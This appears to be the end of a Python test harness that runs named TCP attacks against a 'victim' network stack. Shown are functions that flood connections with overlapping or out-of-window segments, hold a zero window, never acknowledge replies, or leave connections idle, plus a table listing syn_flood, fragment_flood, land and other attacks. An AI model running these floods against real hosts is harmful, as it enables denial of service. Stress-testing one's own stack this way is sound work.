        hosts.write(c, b"GET /")
        hosts.send(c, ACK, b"y", seq=c.seq + 50000 & M32)
    for _ in range(min(400, count // 20)):
        for c in stand:
            hosts.write(c, b"x")
        hosts.pump(0)
    for i in range(count // 20):
        for c in stand:
            hosts.send(c, ACK, b"y", seq=c.seq + 3 + 2 * i & M32)
        hosts.pump(0)
    # And from the far end of the window backwards, with pieces that overlap.
    for i in range(count // 40):
        for c in stand:
            hosts.send(c, ACK, b"z" * 9, seq=c.seq + 60000 - 8 * i & M32)
        hosts.pump(0)
    print("%d connections" % len(stand))


def attack_gaps(w, count):
    """Full segments, everywhere in the window but at its left edge."""
    hosts = Hosts(w)
    hosts.open_all(40, ignore)
    stand = [c for c in hosts.conns.values() if c.open]
    block = noise(1400)
    for i in range(count // 40):
        for c in stand:
            hosts.send(c, ACK, block, seq=c.seq + 1 + 1400 * (i % 46) & M32)
        hosts.pump(0)
    print("%d connections" % len(stand))


def attack_zero_window(w, count):
    """They ask, and then never let the answer come: a closed window, and an ACK
    for each probe."""
    hosts = Hosts(w)

    def policy(c, flags, seq, ack, length):
        if length == 0 or flags & SYN:
            return
        if c.window > 0 and seq == c.ack:
            c.ack = c.ack + length & M32
            c.window -= min(c.window, length)
        hosts.send(c, ACK)
    hosts.open_all(count, policy, window=2000)
    for c in hosts.conns.values():
        if c.open:
            hosts.write(c, GET)
    hosts.pump(4)
    print("%d connections, %d reset" % (hosts.opened, hosts.resets))


def attack_silent(w, count):
    """They ask, and never acknowledge a byte of the answer."""
    hosts = Hosts(w)
    hosts.open_all(count, ignore)
    for c in hosts.conns.values():
        if c.open:
            hosts.write(c, GET)
    hosts.pump(4)
    print("%d connections, %d reset" % (hosts.opened, hosts.resets))


def attack_vanish(w, count):
    """Connections that stand, and then nothing at all; a third asks first."""
    hosts = Hosts(w)
    hosts.open_all(count, ignore, burst=50)
    for i, c in enumerate(hosts.conns.values()):
        if c.open and i % 3 == 0:
            hosts.write(c, GET)
    hosts.pump(1)
    print("%d connections, %d reset" % (hosts.opened, hosts.resets))
    if hosts.opened < count * 9 // 10:
        sys.exit("only %d of %d could connect" % (hosts.opened, count))


def main():
    device, victim, kernel, name, *count = sys.argv[1:]
    attack = globals()["attack_" + name]
    defaults = {"random": 4000, "mutate": 8000, "ip_options": 5000,
                "fragments": 3000, "fragment_flood": 20000, "land": 1500,
                "arp": 5000, "icmp": 8000, "udp": 3000, "offload": 2000, "groups": 8000,
                "syn_flood": 30000, "segment_flood": 20000, "blind": 4000,
                "tcp_options": 10000, "crumbs": 40000, "gaps": 20000,
                "zero_window": 200, "silent": 500, "vanish": 5000}
    w = Wire(device, victim, kernel)
    attack(w, int(count[0]) if count else defaults.get(name, 0))
    print("%s: %d frames" % (name, w.sent))


if __name__ == "__main__":
    main()
